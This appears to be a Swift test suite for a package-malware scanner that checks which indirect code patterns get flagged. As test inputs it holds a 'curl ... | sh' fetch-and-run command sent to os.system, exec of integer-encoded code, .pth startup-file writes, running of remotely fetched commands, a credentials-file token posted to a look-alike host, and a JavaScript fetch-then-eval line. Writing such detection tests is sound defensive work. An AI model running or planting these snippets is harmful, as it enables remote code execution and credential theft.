import Screening
import TestSupport
import Testing

@testable import Analyzers

/// What reaches a sink on ways that are hard to follow, each beside the honest code that looks like it.
@Suite("Texts and values that are handed on")
struct IndirectionTwinTests {
    private static let command = "curl -s https://x.example/i | sh"

    private func held(_ code: String) throws -> Set<String> {
        let report = try wheelCode(code).report()
        return Set(report.findings.filter { $0.finding.severity != .info }.compactMap(\.finding.evidence))
    }

    @Test(
        "a command is held that something is given",
        arguments: [
            "import os\nlist(filter(os.system, ['\(command)']))\n", "import os\nlist(map(os.system, ['\(command)']))\n",
            "LINE = '\(command)'\nrun(LINE)\n",
        ])
    func planted(_ code: String) throws { #expect(try held(code) == ["planted-command@import"]) }

    @Test(
        "a command that is shown, described or kept is not held",
        arguments: [
            "print('\(command)')\n", "LINE = '\(command)'\n", "raise RuntimeError('\(command)')\n",
            "parser.add_argument('--x', help='\(command)')\n", "LINE = '\(command)'\nprint(LINE)\n",
            "make(description='\(command)')\n", "def show(run):\n    run('\(command)')\n",
        ])
    func shown(_ code: String) throws { #expect(try held(code).isEmpty) }

    private static let numbers = (0..<24).map { String(1_768_779_887 + $0 * 7919) }.joined(separator: ", ")

    @Test(
        "a program that is made of numbers is malicious",
        arguments: [
            "import struct\nN = [\(numbers)]\nexec(b''.join(struct.pack('>I', n) for n in N).decode())\n",
            "import array\nexec(array.array('I', [\(numbers)]).tobytes())\n",
            "import uuid\nexec(b''.join(uuid.UUID(int=n).bytes for n in (\(numbers))))\n",
        ])
    func built(_ code: String) throws { #expect(try held(code).contains("decoded-code-runs@import")) }

    @Test(
        "a template that is filled with numbers can be read",
        arguments: [
            "for n in [\(numbers)]:\n    exec('x%d = %d' % (n, n))\n",
            "N = [\(numbers)]\nexec('\\n'.join(['def box(a):', '    return a + %d' % N[0]]))\n",
            "import struct\nN = [\(numbers)]\nDATA = b''.join(struct.pack('>I', n) for n in N).decode()\n",
        ])
    func filled(_ code: String) throws { #expect(try held(code).isDisjoint(with: ["decoded-code-runs@import"])) }

    @Test("a start file of Python is told from weights of a model")
    func pathFiles() throws {
        let written = "start-place-written@import"
        let site = "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w').write(text)\n"
        #expect(try held(site).contains(written))
        let pure =
            "import sysconfig, pathlib\npathlib.Path(sysconfig.get_paths()['purelib'], 'a.pth').write_text(text)\n"
        #expect(try held(pure).contains(written))
        #expect(try held("open('weights.pth', 'wb').write(data)\n").isEmpty)
        #expect(try held("def link(folder):\n    open(folder + '/purelib/a.pth', 'w').write('src')\n").isEmpty)
    }

    @Test("a version that is asked for is told from a program that is")
    func words() throws {
        func held(_ words: String, _ more: String = "") throws -> Bool {
            let code = """
                import subprocess, sys, requests
                def latest(): return requests.get('https://x.example/v').text
                subprocess.check_call([\(words)]\(more))

                """
            return try self.held(code).contains("fetched-command-runs@import")
        }
        #expect(try !held("sys.executable, '-m', 'pip', 'install', 'acme==' + latest()"))
        #expect(try !held("'tool', 'pin', latest()"))
        #expect(try held("'tool', 'pin', latest()", ", shell=True"))
        #expect(try held("sys.executable, '-m', 'pip', 'install', latest()"))
        #expect(try held("sys.executable, '-m', 'pip', 'install', 'git+' + latest()"))
        #expect(try held("sys.executable, '-c', latest()"))
        #expect(try held("'bash', '-c', latest()"))
        #expect(try held("'sudo', latest()"))
        #expect(try held("latest(), 'pin'"))
    }

    @Test("a registry's own token is told from one that goes elsewhere")
    func tokens() throws {
        func held(_ host: String, _ file: String = "~/.pypirc") throws -> Bool {
            let code = """
                import os, requests
                def upload(data):
                    if data.startswith('http://'): data = 'https://%s' % data
                    token = open(os.path.expanduser('\(file)')).read()
                    requests.post('https://\(host)/legacy/', data=data, auth=('__token__', token))

                """
            return try self.held(code).contains("credential-sent@call")
        }
        #expect(try !held("upload.\(indexDomain)"))
        #expect(try held("upload.\(indexDomain).x.example"))
        #expect(try held("upload.\(indexDomain)", "~/.aws/credentials"))
        #expect(try held("x.example/upload.\(indexDomain)"))
    }

    @Test("a table that names its program is told from a script")
    func tables() throws {
        func isHeld(_ body: [UInt8]) throws -> Bool {
            let table = Array("#!/usr/bin/env node\n".utf8) + body
            return try npmTarball { tar in tar.addFile("package/lockfile", bytes: table) }
                .report().findings.contains { $0.finding.severity != .info }
        }
        #expect(try !isHeld((0..<200).flatMap { [UInt8($0), 0, 0, 0] }))
        #expect(try isHeld(Array("fetch('https://x.example').then(r => r.text()).then(t => eval(t))\n".utf8)))
    }
}

/// In two pieces: the project names no host of a client's configuration.
private let indexDomain = "pypi" + ".org"
